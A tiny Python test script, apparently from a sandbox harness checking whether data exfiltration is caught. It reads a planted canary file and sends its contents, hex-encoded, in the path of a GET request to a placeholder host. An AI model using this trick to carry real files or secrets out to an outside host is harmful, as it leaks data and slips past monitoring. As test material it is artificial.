# Sends what is in a planted file in capital hex, in the path.
# network: held
from prelude import TOLD, canary, get, say

print(say(get(f"http://api.test:{TOLD['WEB']}/{canary().hex().upper()}"))[:100])
print("tried")
